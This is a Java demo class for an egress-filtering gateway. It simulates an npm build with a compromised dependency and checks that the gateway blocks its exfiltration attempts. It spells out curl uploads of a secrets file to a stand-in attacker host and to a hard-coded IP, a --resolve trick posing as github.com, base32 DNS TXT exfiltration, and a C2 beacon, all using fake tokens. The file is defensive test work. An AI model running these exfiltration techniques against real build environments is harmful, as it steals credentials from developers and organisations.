package io.tollgate.gateway.demo;

import static io.tollgate.gateway.demo.ExpectedEvent.dns;
import static io.tollgate.gateway.demo.ExpectedEvent.tcp;

import io.tollgate.testbed.CommandResult;
import java.io.IOException;
import java.io.PrintWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.xbill.DNS.utils.base32;

/**
 * An npm build with a compromised dependency, as real curl and dig calls in the runner namespace, which resolves
 * through the gateway like any runner: the honest steps fetch from allowlisted hosts; the malicious ones try to send
 * the secrets out by name, by hard-coded address, behind an allowed name, inside DNS queries, and to a known C2 host.
 */
final class SimulatedBuild {
    static final String ATTACKER_HOST = "attacker.com";
    static final String ATTACKER_IP = "198.51.100.66";
    static final String C2_HOST = "c2.evil.invalid";
    static final String C2_IP = "203.0.113.77";
    /** The attacker's names (→ address): none of them may see a query or a connection. */
    static final Map<String, String> ATTACKER_HOSTS = Map.of(ATTACKER_HOST, ATTACKER_IP, C2_HOST, C2_IP);
    /** Every name (→ address) of the fake internet and its DNS. */
    static final Map<String, String> HOSTS = Map.of("registry.npmjs.org", "198.51.100.20",
            "github.com", "198.51.100.10", ATTACKER_HOST, ATTACKER_IP, C2_HOST, C2_IP);
    private static final String FAKE_SECRETS = """
            NPM_TOKEN=npm_DemoFakeToken0000000000000000000000
            AWS_ACCESS_KEY_ID=AKIADEMOFAKEKEY00000
            GITHUB_TOKEN=ghs_DemoFakeToken000000000000000000000
            """;
    /** The first 60 characters of the secrets in base32: one DNS label of an exfiltration query. */
    static final String EXFIL_LABEL = new base32(base32.Alphabet.BASE32, false, true)
            .toString(FAKE_SECRETS.getBytes(StandardCharsets.US_ASCII)).substring(0, 60).toLowerCase(Locale.ROOT);

    private static final Duration STEP_TIMEOUT = Duration.ofSeconds(20);

    private final DemoSandbox sandbox;
    private final PrintWriter out;

    SimulatedBuild(DemoSandbox sandbox, PrintWriter out) {
        this.sandbox = sandbox;
        this.out = out;
    }

    /** The build's calls, in order; {@code secrets} is the file the malicious steps try to send. */
    static List<BuildStep> steps(Path secrets) {
        String upload = "@" + secrets;
        String attackerAt443 = ATTACKER_IP + ":443";
        return List.of(
                new BuildStep("npm install: download left-pad from registry.npmjs.org", Client.CURL,
                        List.of("https://registry.npmjs.org/bytes/4096"), true,
                        List.of(dns("registry.npmjs.org", "A", "allow", "allowlisted"),
                                tcp("registry.npmjs.org", HOSTS.get("registry.npmjs.org") + ":443",
                                        "allow", "allowlisted"))),
                new BuildStep("preinstall script: curl -d @secrets https://attacker.com/collect", Client.CURL,
                        List.of("--data-binary", upload, "https://" + ATTACKER_HOST + "/collect"), false,
                        List.of(dns(ATTACKER_HOST, "A", "block", "not-allowlisted"))),
                new BuildStep("the same to a hard-coded IP: https://" + ATTACKER_IP + "/collect", Client.CURL,
                        List.of("-k", "--data-binary", upload, "https://" + ATTACKER_IP + "/collect"), false,
                        List.of(tcp(null, attackerAt443, "block", "direct-ip"))),
                new BuildStep("posing as github.com: --resolve github.com:443:" + ATTACKER_IP, Client.CURL,
                        List.of("-k", "--data-binary", upload, "--resolve", "github.com:443:" + ATTACKER_IP,
                                "https://github.com/collect"), false,
                        List.of(tcp("github.com", attackerAt443, "block", "sni-ip-mismatch"))),
                new BuildStep("DNS exfiltration: dig TXT <secrets in base32>.attacker.com", Client.DIG,
                        List.of("TXT", EXFIL_LABEL + "." + ATTACKER_HOST), false,
                        List.of(dns(EXFIL_LABEL + "." + ATTACKER_HOST, "TXT", "block", "dns-exfil"))),
                new BuildStep("dropper beacons to its C2 server " + C2_HOST, Client.CURL,
                        List.of("https://" + C2_HOST + "/beacon"), false,
                        List.of(dns(C2_HOST, "A", "block", "ioc"))),
                new BuildStep("git fetch of the build's own repository from github.com", Client.CURL,
                        List.of("https://github.com/"), true,
                        List.of(dns("github.com", "A", "allow", "allowlisted"),
                                tcp("github.com", HOSTS.get("github.com") + ":443", "allow", "allowlisted"))));
    }

    /** Runs every step in the runner namespace, printing one line per step as it finishes. */
    List<StepOutcome> run() throws IOException {
        Path secrets = Files.writeString(sandbox.file("fake-secrets.env"), FAKE_SECRETS);
        List<BuildStep> steps = steps(secrets);
        List<StepOutcome> outcomes = new ArrayList<>();
        for (int i = 0; i < steps.size(); i++) {
            BuildStep step = steps.get(i);
            out.printf("  %d/%d %-64s ", i + 1, steps.size(), step.title());
            out.flush();
            CommandResult result = sandbox.runInRunner(STEP_TIMEOUT,
                    step.client().argv(step.args(), sandbox.caCertificate()));
            StepOutcome outcome = step.client().outcome(step, result);
            out.println((outcome.reached() ? "✔ allowed  " : "✖ blocked  ") + outcome.says());
            outcomes.add(outcome);
        }
        return outcomes;
    }
}
